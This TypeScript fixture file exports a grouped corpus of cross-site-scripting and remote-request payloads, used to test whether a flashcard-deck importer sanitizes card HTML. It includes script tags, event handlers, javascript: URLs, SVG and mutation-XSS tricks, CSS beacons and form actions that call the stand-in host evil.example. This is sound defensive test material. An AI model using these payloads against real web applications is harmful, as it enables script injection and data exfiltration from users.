/**
 * The hostile-deck corpus (not a test file): card content written to run script or send a request
 * elsewhere. Every payload that ran would set `window.__xss`; every request it made would go to
 * `evil.example`. Grouped by kind; the fixture tests put each one in every import format.
 */
const X = 'window.__xss=1';
const EVIL = 'https://evil.example';

export const CORPUS: { kind: string; html: string }[] = [
  // script tags
  ...[
    `<script>${X}</script>`,
    `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
    `<script/x>${X}</script>`,
    `<scr<script>ipt>${X}</scr</script>ipt>`,
    `<script type="module">${X}</script>`,
  ].map((html) => ({ kind: 'script', html })),
  // on* handlers
  ...[
    `<img src=x onerror="${X}">`,
    `<svg onload="${X}"></svg>`,
    `<body onload="${X}">`,
    `<details open ontoggle="${X}"><summary>s</summary></details>`,
    `<video><source onerror="${X}"></video>`,
    `<audio src=x onerror="${X}"></audio>`,
    `<input autofocus onfocus="${X}">`,
    `<marquee onstart="${X}">m</marquee>`,
    `<div onmouseover="${X}" style="width:100%;height:50px">hover</div>`,
    `<a onclick="${X}">click</a>`,
    `<iframe onload="${X}"></iframe>`,
    `<style onload="${X}"></style>`,
    `<img src=x OnErRoR=${X}>`,
  ].map((html) => ({ kind: 'on-handler', html })),
  // javascript: and data:text/html URLs
  ...[
    `<a href="javascript:${X}">js link</a>`,
    `<a href="jav&#x61;script:${X}">entity link</a>`,
    `<a href="java\tscript:${X}">tab link</a>`,
    `<a href=" javascript:${X}">space link</a>`,
    `<map name=m><area href="javascript:${X}" shape=default></map><img usemap=#m src=x>`,
    `<math><mi xlink:href="javascript:${X}">m</mi></math>`,
    `<a href="data:text/html,<script>${X}</script>">data link</a>`,
    `<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>`,
    `<object data="data:text/html,<script>parent.__xss=1</script>"></object>`,
    `<embed src="data:text/html,<script>parent.__xss=1</script>">`,
  ].map((html) => ({ kind: 'url', html })),
  // SVG
  ...[
    `<svg><script>${X}</script></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
    `<svg><a xlink:href="javascript:${X}"><text x=0 y=20>svg link</text></a></svg>`,
    `<svg><animate onbegin="${X}" attributeName=x dur=1s></svg>`,
    `<svg><a><set attributeName=href to="javascript:${X}"/><text y=20>set</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${X}'/></svg>#x"/></svg>`,
    `<svg><image href="${EVIL}/svg.png"/></svg>`,
  ].map((html) => ({ kind: 'svg', html })),
  // frames, objects, base, meta refresh, links
  ...[
    `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
    `<iframe src="${EVIL}/frame"></iframe>`,
    `<object data="${EVIL}/object"></object>`,
    `<embed src="${EVIL}/embed">`,
    `<base href="${EVIL}/">`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
    `<link rel=stylesheet href="${EVIL}/x.css">`,
    `<link rel=prefetch href="${EVIL}/prefetch">`,
    `<portal src="${EVIL}/portal"></portal>`,
  ].map((html) => ({ kind: 'frame', html })),
  // CSS beacons
  ...[
    `<div style="background:url(${EVIL}/a.png)">bg</div>`,
    `<style>@import '${EVIL}/b.css';</style>`,
    `<style>body{background-image:image-set("${EVIL}/c.png" 1x)}</style>`,
    `<div style="background-image:image-set(url(${EVIL}/d.png) 1x)">set</div>`,
    `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}p{font-family:x}</style>`,
    `<div style="list-style:url(${EVIL}/e.png)">list</div>`,
    `<div style="cursor:url(${EVIL}/g.cur),auto">cursor</div>`,
    `<div style="background:u\\rl(${EVIL}/h.png)">escaped</div>`,
  ].map((html) => ({ kind: 'css', html })),
  // images and media from elsewhere
  ...[
    `<img srcset="${EVIL}/s.png 1x">`,
    `<picture><source srcset="${EVIL}/p.png"><img></picture>`,
    `<img src="${EVIL}/i.png">`,
    `<video poster="${EVIL}/v.png"></video>`,
    `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
    `<input type=image src="${EVIL}/input.png">`,
  ].map((html) => ({ kind: 'remote', html })),
  // forms
  ...[
    `<form action="${EVIL}/form"><input name=q value=1><button>go</button></form>`,
    `<button formaction="javascript:${X}">formaction</button>`,
    `<form><button formaction="${EVIL}/fa">fa</button></form>`,
  ].map((html) => ({ kind: 'form', html })),
  // mutation XSS
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  ].map((html) => ({ kind: 'mutation', html })),
  // text that is not markup but must not break anything
  ...[
    'A'.repeat(100_000),
    `${'word'.repeat(20_000)} end`,
    '\u0001\u0007\u001b[31mcontrol\u007f',
    '\u2028line\u2029para\uFEFF',
    '\u202Egnp.exe right-to-left override',
    '\u2066isolate\u2069 \u200Fmark',
  ].map((html) => ({ kind: 'text', html })),
  // Anki template syntax trying to run
  ...[
    `{{#Front}}<script>${X}</script>{{/Front}}`,
    `{{text:Front}}<img src=x onerror=${X}>`,
    `{{c1::<img src=x onerror=${X}>}}`,
    `[sound:javascript:${X}]`,
    `{{FrontSide}}<script>${X}</script>`,
  ].map((html) => ({ kind: 'template', html })),
];

/** The marker each payload's card starts with, so a test can find it. */
export const marker = (i: number) => `P${String(i).padStart(3, '0')}`;
